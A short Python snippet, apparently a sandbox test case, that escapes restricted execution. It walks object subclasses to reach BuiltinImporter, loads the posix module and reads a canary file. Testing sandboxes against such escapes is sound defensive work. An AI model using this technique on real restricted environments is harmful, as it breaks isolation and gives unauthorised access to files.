# what: asks an alias for the subclasses of its origin
subs = list[int].__origin__.__base__.__subclasses__()
importer = next(c for c in subs if c.__name__ == "BuiltinImporter")
posix = importer.create_module(importer.find_spec("posix"))
importer.exec_module(posix)
posix.read(posix.open(CANARY_PATH, 0), 100)
